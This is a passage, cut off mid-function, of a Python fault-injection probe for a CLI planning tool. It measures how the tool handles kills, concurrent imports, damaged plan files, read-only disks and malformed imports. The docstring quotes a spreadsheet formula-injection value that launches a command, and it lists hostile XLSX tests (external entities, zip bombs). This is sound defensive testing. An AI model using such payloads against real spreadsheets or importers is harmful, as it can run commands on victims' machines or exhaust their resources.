#!/usr/bin/env python3
"""The fault probe: what faults and hostile input do to TrustPlanner, measured from outside the code.

It drives the real command line as subprocesses (``python -m trustplanner ...``, with the
interpreter that runs this script) on temporary copies of the demo plan (``trustplanner demo``),
reads the plan files directly with ``sqlite3`` afterwards, and classifies every run:

  ok               exit 0 and the plan is whole: ``PRAGMA integrity_check`` ok, and ``trustplanner
                   export`` and ``check`` succeed on it (each kind's exported rows are as many as the
                   plan holds)
  refused cleanly  exit 1, 2 or 3 with one line, or only ``FILE:ROW: column: message`` lines (and the
                   "Rejected: N problem(s)" line after them), and the plan's data unchanged
  internal error   "unexpected error" or a traceback on stderr, of the run or of the export, check or
                   briefing run after it
  unclear          anything else: several lines that are not problems, no message at all, exit 0
                   but the export differs from what the plan holds, a rejected run that changed the
                   plan, a damaged plan read as if whole, a plan that no longer opens, an import
                   applied in part
  too slow         still running after 60 s (killed)

Families (``--family NAME``, repeatable; default all), each with fixed seeds, so a rerun on the
same code gives the same figures (the kill families hit the same moments only as nearly as the
machine's load allows):

  kills      SIGKILL an import (each kind) or an edit (``set --tolerance``, ``undo``) at seeded
             moments: half spread over the whole run, half over the time the command holds the
             edit lock (when it reads, validates and writes), as a clean run measured it. Afterwards ``trustplanner check``
             must reopen the plan, integrity must be ok, and the plan's data and history must be
             exactly as before or exactly as after a clean run of the same command.
  pairs      two imports of each kind started at once (``--wait 60``, and without it), each file
             adding the same new records plus its own changes: outcomes; duplicates of natural keys
             counted in the SQLite file; both imports listed by ``trustplanner history``; the plan
             equal to applying the two files one after the other (either order).
  damaged    174 runs: 29 damaged copies of the plan (truncations, single bit flips in the
             header, in b-tree interior pages and in table and index leaf pages, zeroed pages,
             appended garbage) times check, export, history, an import, briefing and set. A
             command that succeeds must give what it gives on the undamaged plan, on a file whose
             integrity_check is ok; otherwise it read a damaged plan as if whole (unclear).
  migration  a plan taken back to plan format 0003 with Alembic, SIGKILLed (one run at a time) at
             20 moments spread over twice the time a clean ``trustplanner check`` of it holds the edit
             lock (backup and migration): afterwards ``check`` must open it (migrating again or
             already migrated) with its data.
  readonly   a read-only plan file, a read-only folder (chmod; as root, where chmod is ignored, a
             read-only bind mount of the file and a read-only tmpfs mount), a full disk and a
             nearly full disk (a small tmpfs, root only) and a file size limit (RLIMIT_FSIZE):
             check, import, set and briefing. A refused briefing must leave no PDF behind.
  malformed  1,232 or more malformed import files across the five kinds: truncated and damaged
             bytes, garbage, other files' magic, broken structure, wrong encodings (Mac Roman,
             CP437, UTF-16, UTF-8 with one stray byte...), NUL, ESC and other control characters,
             huge cells, bad dates and years, unknown refs, cycles, duplicates, formula text
             (``=cmd|' /C calc'!A0``...) and hostile XLSX (entity expansion, external entities, a
             zip bomb of a few hundred MB of rows, cut-short and corrupt workbooks). Each run has
             60 s and 4 GB of address space. Counted besides: wrongly encoded files accepted as
             mojibake, control characters accepted, formula text exported with its leading
             ``=``/``+``/``-``/``@`` intact, truncated files accepted, external entities that read
             the probe's canary file.

Usage (from the repository root, with the project installed, e.g. ``.venv/bin/python``):

  python scripts/fault_probe.py                     # every family: 1,633 runs
  python scripts/fault_probe.py --quick             # a smaller subset of each family: 69 runs
  python scripts/fault_probe.py --fork              # the same runs, each forked from a Python that has
                                                    # already imported the command line (below)
  python scripts/fault_probe.py --family kills --family pairs
  python scripts/fault_probe.py --family kills --limit 2   # the first 2 runs of a family
  python scripts/fault_probe.py --json runs.json    # also every run, for comparing before and after
  python scripts/fault_probe.py --keep DIR          # keep the plans and files in DIR
  options: --jobs N (runs at once, default CPUs + 1), --seed N (default 9)

How long: on a 2-CPU machine that other work kept busy (load average 4 to 9), the full run took 39
minutes and --quick 4; with --fork, 16 minutes and 1.5 (most of a run is Python starting up and
importing). --fork gave the same class for every run of the damaged, readonly and malformed
families as fresh processes did; only the timing-dependent ones differ (which of two imports
started without --wait gets the lock, where a kill lands). The malformed family is two thirds of
the time, and its five zip bombs take 60 s each.

It prints one table (per family: runs, ok, refused cleanly, internal error, unclear, too slow),
then per family its notes and the first three runs of each bad class (the command and the first
line it printed). The exit status is 0 whatever the figures (it measures, it does not judge);
1 if the probe itself could not set up (e.g. the demo plan cannot be made). Needs no network.
The readonly family mounts tmpfs file systems when run as root, and unmounts them again.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import os
import platform
import random
import re
import resource
import shlex
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

ROOT = Path(__file__).resolve().parent.parent
PYTHON = sys.executable
TIME_LIMIT = 60.0
MEMORY_LIMIT = 4 << 30  # address space of each malformed-file run
OUTPUT_LIMIT = 1 << 20  # bytes of stdout/stderr kept per run

OK, REFUSED, INTERNAL, UNCLEAR, SLOW = "ok", "refused cleanly", "internal error", "unclear", "too slow"
CLASSES = (OK, REFUSED, INTERNAL, UNCLEAR, SLOW)
BAD = (INTERNAL, UNCLEAR, SLOW)
KINDS = ("services", "milestones", "staff", "budget", "savings")
PLAN = "plan.tplan"
LOCK = PLAN + ".lock"
STAFF_AS_OF = "20/01/2017"  # after the demo plan's latest HR extract (16/01/2017)
OLD_REVISION = "0003"  # the migration family's older plan format: before the budget tables
HISTORY_TABLES = ("history_entry", "history_row", "plan_revision")

INTERNAL_RE = re.compile(r"unexpected error|Traceback \(most recent call last\)")
SUMMARY_RE = re.compile(r"^Rejected: \d+ problem\(s\); nothing was changed\.$")
WAITING = "trustplanner: waiting up to"
TIMESTAMP_RE = re.compile(r"'\d{4}-\d{2}-\d{2}[ T]\d{2}:\d{2}:\d{2}(\.\d+)?'")
UNSAFE_START = ("=", "+", "-", "@", "\t", "\r")
CONTROL_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")

#: rows a kind's export holds, counted in the plan file directly
COUNT_SQL = {
    "services": "SELECT count(*) FROM service",
    "milestones": "SELECT count(*) FROM milestone WHERE NOT derived",
    "staff": "SELECT count(*) FROM staff_version WHERE valid_to IS NULL",
    "budget": "SELECT count(*) FROM budget_line",
    "savings": "SELECT count(*) FROM savings_plan",
}
#: natural keys that must never be stored twice
DUPLICATE_SQL = {
    "service name": "SELECT name FROM service GROUP BY name HAVING count(*) > 1",
    "milestone ref": "SELECT ref FROM milestone GROUP BY ref HAVING count(*) > 1",
    "staff ref and version": "SELECT ref FROM staff_version GROUP BY ref, valid_from HAVING count(*) > 1",
    "staff ref (open versions)": "SELECT ref FROM staff_version WHERE valid_to IS NULL GROUP BY ref "
                                 "HAVING count(*) > 1",
    "budget line key": "SELECT cost_centre FROM budget_line GROUP BY year, cost_centre HAVING count(*) > 1",
    "savings ref": "SELECT ref FROM savings_plan GROUP BY ref HAVING count(*) > 1",
}


# ---------------------------------------------------------------------------------------------
# Running the command line


@dataclass
class Proc:
    argv: list[str]
    rc: int | None
    out: str
    err: str
    seconds: float
    timed_out: bool = False
    killed: bool = False

    @property
    def command(self) -> str:
        return "trustplanner " + " ".join(shlex.quote(a) for a in self.argv)

    @property
    def first_line(self) -> str:
        for text in (self.err, self.out):
            for line in text.splitlines():
                if line.strip() and not line.startswith(WAITING):
                    return line.strip()[:200]
        return "(nothing printed)"


@dataclass
class Outcome:
    family: str
    case: str
    command: str
    cls: str
    line: str
    seconds: float
    flags: list[str] = field(default_factory=list)
    kind: str = ""
    category: str = ""


def _read_output(handle) -> str:  # noqa: ANN001
    handle.seek(0)
    data = handle.read(OUTPUT_LIMIT + 1)
    handle.close()
    if isinstance(handle.name, str):  # a fork server's output file
        os.unlink(handle.name)
    if len(data) > OUTPUT_LIMIT:  # keep whole lines only
        data = data[: data.rfind(b"\n", 0, OUTPUT_LIMIT) + 1]
    return data.decode("utf-8", "replace")


#: ``--fork``: a Python that has imported the command line and forks a child for each run; the child runs
#: ``trustplanner.cli.main(ARGV)`` as ``python -m trustplanner ARGV`` would (in its folder, with its stdout,
#: stderr and limits), then exits with its status. Only the interpreter's start-up and imports are shared.
FORK_SERVER = r"""
import importlib, json, os, resource, select, sys
for name in sys.argv[1:]:
    importlib.import_module(name)
from trustplanner.cli import main

replies = os.fdopen(os.dup(1), "w", buffering=1)
running, pending = {}, b""


def child(request):
    code = 1
    try:
        os.chdir(request["cwd"])
        for fd, path in ((0, os.devnull), (1, request["out"]), (2, request["err"])):
            target = os.open(path, os.O_RDONLY if fd == 0 else os.O_WRONLY | os.O_TRUNC)
            os.dup2(target, fd)
            os.close(target)
        for which, value in request["limits"]:
            resource.setrlimit(which, (value, value))
        os.environ.clear()
        os.environ.update(request["env"])
        sys.stdin = open(0, "r", closefd=False)
        sys.stdout = open(1, "w", encoding="utf-8", closefd=False)
        sys.stderr = open(2, "w", encoding="utf-8", errors="backslashreplace", closefd=False)
        sys.argv = ["trustplanner", *request["argv"]]
        code = main(request["argv"])
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 0 if exc.code is None else 1
    except BaseException:
        import traceback
        traceback.print_exc()
    try:
        sys.stdout.flush()
        sys.stderr.flush()
    finally:
        os._exit(code if isinstance(code, int) else 1)


while True:
    ready, _, _ = select.select([0], [], [], 0.002)
    if ready:
        data = os.read(0, 1 << 16)
        if not data:
            break
        pending += data
        while b"\n" in pending:
            line, pending = pending.split(b"\n", 1)
            request = json.loads(line)
            pid = os.fork()
            if pid == 0:
                child(request)
            running[pid] = request["id"]
            replies.write(json.dumps({"id": request["id"], "pid": pid}) + "\n")
    while running:
        pid, status = os.waitpid(-1, os.WNOHANG)
        if pid == 0:
            break
        replies.write(json.dumps({"id": running.pop(pid), "rc": os.waitstatus_to_exitcode(status)}) + "\n")
"""
#: what the fork server imports before it forks (the modules the commands import when they run)
PRELOAD = ("trustplanner.cli", "trustplanner.services.kinds", "trustplanner.services.imports",
           "trustplanner.services.staff", "trustplanner.services.budget", "trustplanner.services.exports",
           "trustplanner.services.briefings", "trustplanner.services.checks", "trustplanner.services.position",
           "trustplanner.services.snapshot", "trustplanner.services.history", "trustplanner.services.plans",
           "trustplanner.services.demo", "trustplanner.store.access", "openpyxl", "alembic.command",
           "alembic.config", "alembic.script", "alembic.runtime.migration")


class ForkedChild:
    """A run started by the fork server, as much of a ``subprocess.Popen`` as the probe uses."""

    def __init__(self, argv: Sequence[str]):
        self.args, self.pid, self.returncode = list(argv), None, None
        self.started, self.ended = threading.Event(), threading.Event()

    def poll(self) -> int | None:
        return self.returncode if self.ended.is_set() else None

    def wait(self, timeout: float | None = None) -> int:
        if not self.ended.wait(timeout):
            raise subprocess.TimeoutExpired(self.args, timeout)
        return self.returncode

    def kill(self) -> None:
        if not self.ended.is_set():
            os.kill(self.pid, signal.SIGKILL)


class ForkServer:
    def __init__(self, env: dict[str, str], folder: Path):
        self.folder = folder
        folder.mkdir(parents=True, exist_ok=True)
        self.process = subprocess.Popen([PYTHON, "-c", FORK_SERVER, *PRELOAD], stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, env=env, cwd=folder)
        self.children: dict[int, ForkedChild] = {}
        self.lock = threading.Lock()
        self.number = 0
        threading.Thread(target=self._replies, daemon=True).start()

    def spawn(self, argv: Sequence[str], cwd: Path, limits: dict[int, int], env: dict[str, str]):  # noqa: ANN201
        with self.lock:
            self.number += 1
            number = self.number
            child = self.children[number] = ForkedChild(argv)
            paths = [self.folder / f"{number}.{name}" for name in ("out", "err")]
            for path in paths:
                path.touch()
            request = {"id": number, "argv": list(argv), "cwd": str(Path(cwd).resolve()), "out": str(paths[0]),
                       "err": str(paths[1]), "limits": list(limits.items()), "env": env}
            self.process.stdin.write((json.dumps(request) + "\n").encode())
            self.process.stdin.flush()
        handles = [path.open("rb") for path in paths]  # read, and removed, when the run has ended
        if not child.started.wait(60):
            raise SystemExit("fault probe: the fork server does not answer")
        return child, handles[0], handles[1]

    def _replies(self) -> None:
        for line in self.process.stdout:
            reply = json.loads(line)
            with self.lock:
                child = self.children[reply["id"]]
            if "pid" in reply:
                child.pid = reply["pid"]
                child.started.set()
            else:
                child.returncode = reply["rc"]
                with self.lock:
                    del self.children[reply["id"]]
                child.ended.set()

    def close(self) -> None:
        self.process.stdin.close()
        self.process.wait(timeout=30)


class Probe:
    def __init__(self, work: Path, *, jobs: int, quick: bool, limit: int | None, seed: int, fork: bool = False):
        self.work, self.jobs, self.quick, self.limit, self.seed = work, jobs, quick, limit, seed
        self.logs = work / "logs"
        self.env = {**os.environ, "TRUSTPLANNER_LOG_DIR": str(self.logs), "PYTHONIOENCODING": "utf-8",
                    "QT_QPA_PLATFORM": "offscreen", "LC_ALL": "C.UTF-8"}
        self.pool = ThreadPoolExecutor(max_workers=jobs)
        self.forks = ForkServer(self.env, work / "output") if fork else None
        self._counter = 0
        self._lock = threading.Lock()
        self._cache: dict[str, object] = {}
        self._making: dict[str, threading.Lock] = {}
        self.keep = False

    # -- processes --------------------------------------------------------------------------------

    def spawn(self, argv: Sequence[str], cwd: Path, *, limits: dict[int, int] | None = None):  # noqa: ANN201
        """Start ``python -m trustplanner ARGV`` in ``cwd``; ``limits`` are resource limits (RLIMIT_*: bytes)."""
        if self.forks is not None:
            return self.forks.spawn(argv, cwd, limits or {}, self.env)
        out, err = tempfile.TemporaryFile(), tempfile.TemporaryFile()
        process = subprocess.Popen([PYTHON, "-m", "trustplanner", *argv], cwd=cwd, stdin=subprocess.DEVNULL,
                                   stdout=out, stderr=err, env=self.env)
        for which, value in (limits or {}).items():
            # set from outside (preexec_fn is unsafe beside threads): the child is still loading Python
            resource.prlimit(process.pid, which, (value, value))
        return process, out, err

    def run(self, argv: Sequence[str], cwd: Path, *, timeout: float = TIME_LIMIT,
            limits: dict[int, int] | None = None) -> Proc:
        argv = [str(a) for a in argv]
        started = time.monotonic()
        process, out, err = self.spawn(argv, cwd, limits=limits)
        timed_out = False
        try:
            process.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
            timed_out = True
        return Proc(argv, process.returncode, _read_output(out), _read_output(err), time.monotonic() - started,
                    timed_out=timed_out)

    def run_killed(self, argv: Sequence[str], cwd: Path, delay: float, watch: Path | None = None) -> Proc:
        """Start the command and SIGKILL it ``delay`` seconds after it starts (or after ``watch`` appears)."""
        argv = [str(a) for a in argv]
        started = time.monotonic()
        process, out, err = self.spawn(argv, cwd)
        reference = started
        if watch is not None:
            while not watch.exists() and process.poll() is None and time.monotonic() - started < TIME_LIMIT:
                time.sleep(0.001)
            reference = time.monotonic()
        killed = False
        try:
            process.wait(timeout=max(reference + delay - time.monotonic(), 0.0))
        except subprocess.TimeoutExpired:
            os.kill(process.pid, signal.SIGKILL)
            process.wait()
            killed = True
        return Proc(argv, process.returncode, _read_output(out), _read_output(err), time.monotonic() - started,
                    killed=killed)

    def map(self, function: Callable, items: Iterable) -> list:
        return list(self.pool.map(function, list(items)))

    # -- folders ----------------------------------------------------------------------------------

    def folder(self, family: str, name: str = "run") -> Path:
        with self._lock:
            self._counter += 1
            number = self._counter
        path = self.work / "runs" / family / f"{number:05d}-{re.sub(r'[^A-Za-z0-9]+', '-', name)[:40]}"
        path.mkdir(parents=True)
        return path

    def fresh(self, family: str, name: str = "run", plan: Path | None = None) -> Path:
        """A new folder holding a copy of the demo plan (or of ``plan``) as plan.tplan."""
        path = self.folder(family, name)
        shutil.copyfile(plan or self.base_plan, path / PLAN)
        return path

    def done(self, path: Path) -> None:
        if not self.keep:
            shutil.rmtree(path, ignore_errors=True)

    def cached(self, key: str, make: Callable[[], object]) -> object:
        """``make()``'s result, made once (other threads asking for it meanwhile wait for it)."""
        with self._lock:
            making = self._making.setdefault(key, threading.Lock())
        with making:
            if key not in self._cache:
                self._cache[key] = make()
            return self._cache[key]

    # -- the demo plan ----------------------------------------------------------------------------

    def set_up(self) -> None:
        base = self.work / "base"
        base.mkdir(parents=True)
        made = self.run(["demo", PLAN], base)
        if made.rc != 0:
            raise SystemExit(f"fault probe: cannot make the demo plan: {made.first_line}")
        exported = self.run(["export", PLAN, "export"], base)
        if exported.rc != 0:
            raise SystemExit(f"fault probe: cannot export the demo plan: {exported.first_line}")
        self.base_plan = base / PLAN
        self.base_bytes = self.base_plan.read_bytes()
        self.base_export = read_export(base / "export")
        self.base_dump = data_dump(self.base_plan)
        self.base_history = history_count(self.base_plan)
        self.rows = {kind: list(csv.reader(io.StringIO(self.base_export[kind].decode("utf-8-sig"), newline="")))
                     for kind in KINDS}
        try:
            from importlib.metadata import version

            self.version = f"TrustPlanner {version('trustplanner')}"
        except Exception:  # not installed as a distribution
            self.version = "TrustPlanner (version unknown)"
        commit = subprocess.run(["git", "-C", str(ROOT), "rev-parse", "--short", "HEAD"], capture_output=True, text=True)
        if commit.returncode == 0:
            self.version += f" at {commit.stdout.strip()}"

    @property
    def base_check(self) -> Proc:
        """`trustplanner check` on the demo plan, as it is."""
        def make() -> Proc:
            folder = self.fresh("base", "check")
            proc = self.run(["check", PLAN], folder)
            self.done(folder)
            return proc

        return self.cached("base-check", make)

    # -- files that change a plan -----------------------------------------------------------------

    def changed_rows(self, kind: str, tag: str, common: int = 10) -> list[list[str]]:
        """The demo's records of ``kind``, plus ``common`` new records (the same for every tag) and a few
        records changed in a way of the tag's own."""
        header, *rows = (list(r) for r in self.rows[kind])
        col = header.index
        if kind == "services":
            rows += [[f"Probe service {n}", "", "", "no"] for n in range(1, common // 5 + 2)]
            rows.append([f"Probe service {tag}", "", "", "no"])
        elif kind == "milestones":
            for n in range(1, common + 1):
                rows.append([f"PRB-C{n:02d}", f"Probe milestone {n}", "Governance", "", "shadow", "Probe owner",
                             "2017-03-01", "2017-03-01", "", "", "", ""])
            for row in rows[:5]:
                row[col("commentary")] = (row[col("commentary")] + f" Probe note {tag}.").strip()
        elif kind == "staff":
            for n in range(1, 2 * common + 6):
                row = list(rows[0])
                row[col("ref")], row[col("name")] = f"PRB-C{n:03d}", f"Probe Person {n}"
                rows.append(row)
            for row in rows[:5]:
                row[col("role")] += f" ({tag})"
        elif kind == "budget":
            for n in range(1, common + 1):
                row = list(rows[0])
                row[col("cost_centre")], row[col("description")] = f"PRBC{n:02d}", f"Probe line {n}"
                rows.append(row)
            for row in rows[:3]:
                row[col("description")] += f" ({tag})"
        elif kind == "savings":
            for n in range(1, common + 1):
                row = list(rows[0])
                row[col("ref")], row[col("description")] = f"PRB-C{n:02d}", f"Probe saving {n}"
                rows.append(row)
            for row in rows[:3]:
                row[col("mitigation")] = (row[col("mitigation")] + f" Probe {tag}.").strip()
        return [header, *rows]

    def write_changed(self, folder: Path, kind: str, tag: str) -> str:
        name = f"{kind}-{tag}.csv"
        (folder / name).write_bytes(csv_bytes(self.changed_rows(kind, tag)))
        return name


def import_argv(kind: str, name: str, *extra: str) -> list[str]:
    argv = ["import", PLAN, kind, name]
    if kind == "staff":
        argv += ["--as-of", STAFF_AS_OF]
    return [*argv, *extra]


# ---------------------------------------------------------------------------------------------
# Reading plans and output from outside


def csv_bytes(rows: Sequence[Sequence[str]], encoding: str = "utf-8-sig") -> bytes:
    return csv_text(rows).encode(encoding)


def csv_text(rows: Sequence[Sequence[str]]) -> str:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def read_export(folder: Path) -> dict[str, bytes]:
    return {kind: (folder / f"{kind}.csv").read_bytes() for kind in KINDS if (folder / f"{kind}.csv").exists()}


def export_cells(data: bytes) -> list[list[str]]:
    try:
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    except (UnicodeDecodeError, csv.Error):
        return []


def connect(path: Path) -> sqlite3.Connection:
    # read-write, as any program opening the plan next would (a hot journal left by a kill is rolled back)
    return sqlite3.connect(path, timeout=10)


def integrity(path: Path) -> str:
    try:
        connection = connect(path)
        try:
            rows = connection.execute("PRAGMA integrity_check").fetchall()
        finally:
            connection.close()
    except sqlite3.Error as exc:
        return f"{type(exc).__name__}: {exc}"
    return "ok" if rows == [("ok",)] else "; ".join(str(r[0]) for r in rows[:2])


def data_dump(path: Path) -> str | None:
    """Everything the plan holds but its change history, timestamps masked (None if unreadable)."""
    def about_history(line: str) -> bool:
        return any(f'"{t}"' in line or f"TABLE {t} " in line or f"ON {t}" in line or f"TABLE {t}(" in line
                   for t in HISTORY_TABLES)

    try:
        connection = connect(path)
        try:
            lines = [line for line in connection.iterdump() if not about_history(line)]
        finally:
            connection.close()
    except sqlite3.Error:
        return None
    return TIMESTAMP_RE.sub("'TIME'", "\n".join(lines))


def scalar(path: Path, sql: str) -> object:
    try:
        connection = connect(path)
        try:
            return connection.execute(sql).fetchone()[0]
        finally:
            connection.close()
    except (sqlite3.Error, TypeError):
        return None


def peek(path: Path, sql: str) -> object:
    """:func:`scalar` on a copy of the plan (and its journal), leaving the plan itself as it is."""
    with tempfile.TemporaryDirectory() as folder:
        copy = Path(folder) / path.name
        for suffix in ("", "-journal", "-wal"):
            if Path(str(path) + suffix).exists():
                shutil.copyfile(str(path) + suffix, str(copy) + suffix)
        return scalar(copy, sql) if copy.exists() else None


def history_count(path: Path) -> int | None:
    return scalar(path, "SELECT count(*) FROM history_entry")


def duplicates(path: Path) -> dict[str, int]:
    found = {}
    connection = connect(path)
    try:
        for key, sql in DUPLICATE_SQL.items():
            try:
                count = len(connection.execute(sql).fetchall())
            except sqlite3.Error:
                continue
            if count:
                found[key] = count
    finally:
        connection.close()
    return found


def differing_tables(before: str | None, after: str | None) -> str:
    def tables(dump: str | None) -> Counter:
        return Counter(re.findall(r'^INSERT INTO "(\w+)"', dump or "", re.M))

    a, b = tables(before), tables(after)
    changed = sorted(t for t in set(a) | set(b) if a[t] != b[t])
    return ", ".join(changed[:4]) or "row contents"


def verdict(err: str, sources: Sequence[str] = ()) -> str:
    """The shape of what a run printed on stderr: internal, clean, messy or silent."""
    if INTERNAL_RE.search(err):
        return "internal"
    lines = [line for line in err.splitlines() if line.strip() and not line.startswith(WAITING)]
    if not lines:
        return "silent"
    if len(lines) == 1:
        return "clean"
    prefixes = tuple(f"{s}:" for s in sources)
    if prefixes and all(line.startswith(prefixes) or SUMMARY_RE.match(line) for line in lines):
        return "clean"
    return "messy"


def check_succeeded(proc: Proc) -> bool:
    """`check` ran: no problems (exit 0), or the plan's rule problems listed (exit 1)."""
    if proc.timed_out or INTERNAL_RE.search(proc.err):
        return False
    return (proc.rc == 0 and "No problems as of" in proc.out) or (proc.rc == 1 and "problem(s) as of" in proc.err)


def refusal(proc: Proc, sources: Sequence[str] = ()) -> tuple[str, str]:
    """The class of a run that did not succeed, judged by its exit status and stderr alone."""
    if proc.timed_out:
        return SLOW, f"still running after {TIME_LIMIT:.0f} s"
    shape = verdict(proc.err, sources)
    if shape == "internal":
        return INTERNAL, proc.first_line
    if proc.rc in (1, 2, 3) and shape == "clean":
        return REFUSED, proc.first_line
    if shape == "silent":
        return UNCLEAR, f"exit {proc.rc} with nothing on stderr"
    return UNCLEAR, f"exit {proc.rc}, {len(proc.err.splitlines())} lines on stderr: {proc.first_line}"


def whole(probe: Probe, folder: Path, *, briefing: bool = False) -> tuple[str, str, dict[str, bytes]]:
    """Is the plan in ``folder`` whole? (class or "", why, its export)."""
    state = integrity(folder / PLAN)
    if state != "ok":
        return UNCLEAR, f"integrity_check: {state}", {}
    exported = probe.run(["export", PLAN, "after"], folder)
    if exported.rc != 0 or exported.timed_out:
        cls, line = refusal(exported)
        return (INTERNAL if cls == INTERNAL else SLOW if cls == SLOW else UNCLEAR), f"then export: {line}", {}
    checked = probe.run(["check", PLAN], folder)
    if not check_succeeded(checked):
        cls, line = refusal(checked)
        return (INTERNAL if cls == INTERNAL else SLOW if cls == SLOW else UNCLEAR), f"then check: {line}", {}
    if briefing:
        brief = probe.run(["briefing", PLAN, "-o", "after.pdf"], folder)
        if brief.rc != 0 or brief.timed_out:
            cls, line = refusal(brief)
            return (INTERNAL if cls == INTERNAL else SLOW if cls == SLOW else UNCLEAR), f"then briefing: {line}", {}
    files = read_export(folder / "after")
    for kind, sql in COUNT_SQL.items():
        held = scalar(folder / PLAN, sql)
        shown = max(len(export_cells(files.get(kind, b""))) - 1, 0)
        if held != shown:
            return UNCLEAR, f"the export lists {shown} {kind}, the plan holds {held}", files
    return "", "", files


def outcome(family: str, case: str, proc: Proc | None, cls: str, line: str, **extra: object) -> Outcome:
    return Outcome(family, case, proc.command if proc else "", cls, line, round(proc.seconds, 2) if proc else 0.0,
                   **extra)


def limited(probe: Probe, items: list) -> list:
    return items[: probe.limit] if probe.limit else items


# ---------------------------------------------------------------------------------------------
# 1. kills


#: name: (kind imported, or the command; the command run once beforehand on the plan it starts from)
KILL_COMMANDS = {
    "import services": ("services", None),
    "import milestones": ("milestones", None),
    "import staff": ("staff", None),
    "import budget": ("budget", None),
    "import savings": ("savings", None),
    "set --tolerance": (["set", PLAN, "--tolerance", "7"], None),
    "undo": (["undo", PLAN], ["set", PLAN, "--tolerance", "8"]),  # the demo plan has nothing to undo
}


def _kill_argv(probe: Probe, folder: Path, name: str) -> list[str]:
    what = KILL_COMMANDS[name][0]
    return import_argv(what, probe.write_changed(folder, what, "k")) if isinstance(what, str) else list(what)


def timed_clean_run(probe: Probe, argv: Sequence[str], folder: Path) -> tuple[Proc, float]:
    """Run the command, watching its edit lock: (the run, how long it held the lock - or ran, if it took none)."""
    process, out, err = probe.spawn(argv, folder)
    started = time.monotonic()
    taken = released = None
    while process.poll() is None:
        present = (folder / LOCK).exists()
        if present and taken is None:
            taken = time.monotonic()
        elif not present and taken is not None and released is None:
            released = time.monotonic()
        time.sleep(0.001)
    ended = time.monotonic()
    proc = Proc(list(argv), process.returncode, _read_output(out), _read_output(err), ended - started)
    return proc, (released or ended) - (taken or started)


def kill_reference(probe: Probe, name: str) -> dict:
    """The plan the command starts from, and a clean run of it: how long it takes (in all, and after it
    takes the lock) and the plan it leaves."""
    def make() -> dict:
        start = probe.base_plan
        prepare = KILL_COMMANDS[name][1]
        if prepare:
            folder = probe.fresh("kills", f"start of {name}")
            made = probe.run(prepare, folder)
            if made.rc != 0:
                raise SystemExit(f"fault probe: {made.command} failed: {made.first_line}")
            start = folder / PLAN
        folder = probe.fresh("kills", f"reference {name}", start)
        proc, held = timed_clean_run(probe, _kill_argv(probe, folder, name), folder)
        if proc.rc != 0:
            raise SystemExit(f"fault probe: the clean run of {proc.command} failed: {proc.first_line}")
        reference = {"total": proc.seconds, "held": held, "start": start,
                     "before": data_dump(start), "before_history": history_count(start),
                     "dump": data_dump(folder / PLAN), "history": history_count(folder / PLAN)}
        probe.done(folder)
        return reference

    return probe.cached(f"kill-{name}", make)


def family_kills(probe: Probe) -> tuple[list[Outcome], list[str]]:
    per_command = 1 if probe.quick else 20
    tasks = []
    for i in range(per_command):
        for name in KILL_COMMANDS:
            rng = random.Random(f"{probe.seed}-kills-{name}-{i}")
            tasks.append((name, "after the lock" if i % 2 else "from the start", rng.random()))
    tasks = limited(probe, tasks)
    for name in {t[0] for t in tasks}:
        kill_reference(probe, name)

    def one(task: tuple[str, str, float]) -> Outcome:
        name, mode, fraction = task
        reference = kill_reference(probe, name)
        span = reference["held"] if mode == "after the lock" else reference["total"]
        delay = fraction * span * 1.1
        folder = probe.fresh("kills", name, reference["start"])
        argv = _kill_argv(probe, folder, name)
        killed = probe.run_killed(argv, folder, delay, folder / LOCK if mode == "after the lock" else None)
        case = f"{name}, SIGKILL {delay:.3f} s {mode}" + ("" if killed.killed else " (it had finished)")
        flags = ["killed" if killed.killed else "finished"]
        checked = probe.run(["check", PLAN], folder)
        result = None
        if not killed.killed and killed.rc != 0:
            result = UNCLEAR, f"it ended by itself with exit {killed.rc}: {killed.first_line}"
        elif not check_succeeded(checked):
            cls, line = refusal(checked)
            if cls in (INTERNAL, SLOW):
                result = cls, f"does not reopen: check: {line}"
            else:  # does a writer open it (rolling back what the kill left), so that it can be read again?
                writer = probe.run(["history", PLAN, "--purge-before", "01/01/2000"], folder)
                again = probe.run(["check", PLAN], folder)
                then = ("a writer then opens it, and check after that works" if writer.rc == 0
                        and check_succeeded(again) else f"nor does a writer: {writer.first_line}")
                flags.append("readers refused")
                result = UNCLEAR, f"does not reopen for reading: check: {line} ({then})"
        else:
            state = integrity(folder / PLAN)
            dump, history = data_dump(folder / PLAN), history_count(folder / PLAN)
            if state != "ok":
                result = UNCLEAR, f"integrity_check: {state}"
            elif dump == reference["before"] and history == reference["before_history"]:
                flags.append("as before")
                result = OK, "as before"
            elif dump == reference["dump"] and history == reference["history"]:
                flags.append("as after")
                result = OK, "as after a clean run"
            else:
                result = UNCLEAR, (f"applied in part: {differing_tables(reference['before'], dump)} "
                                   f"(history entries {history}, before {reference['before_history']})")
        probe.done(folder)
        return Outcome("kills", case, killed.command, result[0], result[1], round(killed.seconds, 2), flags)

    results = probe.map(one, tasks)
    killed = [r for r in results if "killed" in r.flags]
    notes = [f"{len(killed)} runs killed part-way ({sum('as before' in r.flags for r in killed)} left the plan as "
             f"before, {sum('as after' in r.flags for r in killed)} as after), "
             f"{len(results) - len(killed)} had finished before their kill; plans that check could not open after "
             f"the kill: {sum('readers refused' in r.flags for r in results)}"]
    return results, notes


# ---------------------------------------------------------------------------------------------
# 2. concurrent pairs


def pair_reference(probe: Probe, kind: str) -> dict:
    """The plan after A alone, B alone, A then B and B then A (each a clean run)."""
    def make() -> dict:
        result = {}
        for first, second in (("a", "b"), ("b", "a")):
            folder = probe.fresh("pairs", f"reference {kind} {first}{second}")
            for step, tag in enumerate((first, second)):
                proc = probe.run(import_argv(kind, probe.write_changed(folder, kind, tag)), folder)
                if proc.rc != 0:
